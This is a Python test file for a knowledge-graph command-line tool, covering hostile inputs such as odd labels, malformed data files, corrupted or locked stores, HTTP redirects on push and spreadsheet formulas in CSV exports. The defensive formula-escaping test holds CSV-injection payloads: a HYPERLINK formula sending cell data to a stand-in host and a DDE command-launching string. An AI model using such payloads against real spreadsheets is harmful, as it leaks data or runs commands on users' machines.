"""Hostile clients, stores and tool inputs (issue 11, cases 15, 16, 17, 20, 22, 23, 25)."""

from __future__ import annotations

import csv
import http.server
import json
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pyoxigraph as ox
import pytest

from hostile_corpus import GOOD_TEXT, kgraph, kgraph_script

FACT = {"subject": {"id": "https://w3id.org/kgraph/id/finland", "label": "Finland", "type": "Country"},
        "predicate": "memberOf", "status": "asserted", "confidence": 0.9,
        "object": {"id": "https://w3id.org/kgraph/id/nato", "label": "NATO", "type": "Alliance"},
        "evidence": [{"doc_id": "d1", "sentence": "Finland joined NATO.", "start": 0, "end": 20, "rule": "r",
                      "confidence": 0.9}]}


def facts_file(path: Path, *facts: dict) -> Path:
    path.write_text("".join(json.dumps(fact) + "\n" for fact in facts), encoding="utf-8")
    return path


# -- case 15: "$" in titles, file names and labels ------------------------------------------------


def test_viz_png_draws_dollar_signs_as_text(tmp_path):
    fact = json.loads(json.dumps(FACT))
    fact["subject"]["label"] = r"$\notacommand{x}^$ Finland"
    fact["predicate"] = "memberOf"
    source = facts_file(tmp_path / "price $5 $^$.jsonl", fact)
    run = kgraph("viz", str(source), "-o", str(tmp_path / "g$x$.png"))
    assert run.returncode == 0, run.stderr.decode()  # was: a mathtext ValueError traceback
    assert (tmp_path / "g$x$.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# -- case 22: malformed eval gold and viz facts ---------------------------------------------------


def test_viz_refuses_a_nan_confidence_with_the_line(tmp_path):
    bad = json.loads(json.dumps(FACT))
    bad["confidence"] = float("nan")
    source = facts_file(tmp_path / "facts.jsonl", FACT, bad)
    run = kgraph("viz", str(source), "-o", str(tmp_path / "g.html"))
    assert run.returncode == 1 and "Traceback" not in run.stderr.decode()
    assert f"{source}:2: not a kgraph fact" in run.stderr.decode() and "not a number from 0 to 1" in run.stderr.decode()
    assert not (tmp_path / "g.html").exists()


@pytest.mark.parametrize("item, message", [
    ({"id": "g1", "text": "x", "gold": [{"s": "Finland", "p": "member_of"}]}, "needs string fields 's', 'p' and 'o'"),
    ({"id": "g1", "text": "x", "gold": "Finland member_of NATO"}, "field 'gold' is not a list"),
    ({"id": "g1", "text": 5, "gold": []}, "field 'text' is not a string"),
    ({"id": "g1", "text": "x", "gold": [], "entities": [{"aliases_in_text": ["x"]}]}, "field 'entities'"),
    (["not", "an", "object"], "a JSON object is expected"),
])
def test_eval_refuses_a_malformed_gold_file_with_the_line(tmp_path, item, message):
    gold = tmp_path / "gold.jsonl"
    gold.write_text(json.dumps({"id": "ok", "text": GOOD_TEXT, "gold": []}) + "\n" + json.dumps(item) + "\n",
                    encoding="utf-8")
    run = kgraph("eval", str(gold))
    assert run.returncode == 1 and "Traceback" not in run.stderr.decode()
    assert f"{gold}:2: not a gold item" in run.stderr.decode() and message in run.stderr.decode()


# -- case 23: spreadsheet formulas in the Gephi CSV -----------------------------------------------


def test_gephi_csv_escapes_formulas(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text(json.dumps({"id": '=HYPERLINK("http://evil.example/?"&A1,"open")', "text": GOOD_TEXT,
                                  "title": "+cmd|' /C calc'!A0"}) + "\n", encoding="utf-8")
    run = kgraph("build", str(corpus), "-o", str(tmp_path / "g.csv"), "-q")
    assert run.returncode == 0, run.stderr.decode()
    with open(tmp_path / "g.edges.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell[:1] in "=+@" for cell in cells if cell)  # was: the formula written raw
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


# -- cases 16 and 17: folders that are not stores, corrupted stores -------------------------------


def test_store_refuses_a_folder_with_the_users_files(tmp_path):
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "thesis.txt").write_text("my notes\n", encoding="utf-8")
    (tmp_path / "a.txt").write_text(GOOD_TEXT, encoding="utf-8")
    for args in (["build", str(tmp_path / "a.txt"), "--store", str(folder), "-q"],
                 ["forget", "x", "--store", str(folder)]):
        run = kgraph(*args)
        assert run.returncode == 1, run.stderr.decode()
        assert "is a folder with files in it but not a kgraph store" in run.stderr.decode()
    assert os.listdir(folder) == ["thesis.txt"]  # was: RocksDB files added beside it


def test_corrupted_store_is_named_corrupted(tmp_path):
    store = tmp_path / "store"
    oxigraph = ox.Store(str(store))
    oxigraph.add(ox.Quad(ox.NamedNode("http://x/a"), ox.NamedNode("http://x/p"), ox.Literal("1")))
    oxigraph.flush()
    del oxigraph
    manifest = next(store.glob("MANIFEST-*"))
    data = bytearray(manifest.read_bytes())
    for i in range(0, len(data), 7):
        data[i] ^= 0xFF
    manifest.write_bytes(bytes(data))
    run = kgraph("query", "--store", str(store), "-e", "ASK { ?s ?p ?o }")
    assert run.returncode == 1 and "Traceback" not in run.stderr.decode()  # was: RuntimeError traceback
    assert f"cannot open the store {store}: its files are corrupted" in run.stderr.decode()


def test_locked_store_is_named_locked(tmp_path):
    (tmp_path / "a.txt").write_text(GOOD_TEXT, encoding="utf-8")
    writer = ox.Store(str(tmp_path / "store"))  # another writer holds the lock
    try:
        run = kgraph("build", str(tmp_path / "a.txt"), "--store", str(tmp_path / "store"), "-q")
    finally:
        del writer
    assert run.returncode == 1 and "Traceback" not in run.stderr.decode()
    assert "it is locked by another process writing to it" in run.stderr.decode()


# -- case 20: push and redirects ------------------------------------------------------------------


@pytest.fixture
def redirecting() -> Iterator[tuple[str, list[tuple[str, str, bytes]]]]:
    """A loopback server: ``/old`` answers 301 to ``/new``; ``/new`` stores. Yields (base URL, requests)."""
    seen: list[tuple[str, str, bytes]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def _any(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            seen.append((self.command, self.path, body))
            if self.path.startswith("/old"):
                self.send_response(301)
                self.send_header("Location", "/new" + self.path[len("/old"):])
            else:
                self.send_response(204)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_PUT = _any

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def test_push_redirect_is_a_failure_unless_followed(tmp_path, redirecting):
    base, seen = redirecting
    graph = tmp_path / "g.nt"
    graph.write_text("<http://x/a> <http://x/p> <http://x/b> .\n", encoding="utf-8")
    run = kgraph("push", str(graph), "--endpoint", f"{base}/old/store")
    assert run.returncode == 1  # was 0: urllib re-sent a bodyless GET and called it a success
    assert "was redirected (HTTP 301" in run.stderr.decode() and "nothing was stored" in run.stderr.decode()
    assert [(method, path) for method, path, _ in seen] == [("POST", "/old/store?default")]
    seen.clear()
    run = kgraph("push", str(graph), "--endpoint", f"{base}/old/store", "--follow-redirects")
    assert run.returncode == 0, run.stderr.decode()
    assert [(method, path) for method, path, _ in seen] == [("POST", "/old/store?default"), ("POST", "/new/store?default")]
    assert seen[1][2] == graph.read_bytes()


# -- case 25: serving a store a build may write ---------------------------------------------------


def test_serve_store_says_it_does_not_see_later_builds(tmp_path):
    store = tmp_path / "store"
    oxigraph = ox.Store(str(store))
    oxigraph.add(ox.Quad(ox.NamedNode("http://x/a"), ox.NamedNode("http://x/p"), ox.Literal("1")))
    oxigraph.flush()
    del oxigraph
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = subprocess.Popen(kgraph_script() + ["serve", str(store), "--port", str(port)], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, start_new_session=True)
    try:
        lines = [process.stdout.readline().decode() for _ in range(2)]
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=30)
    assert lines[0].startswith("SPARQL endpoint:")
    assert lines[1].startswith(f"Serving the store {store} as it is now: documents a kgraph build adds to it later "
                               "are not seen")
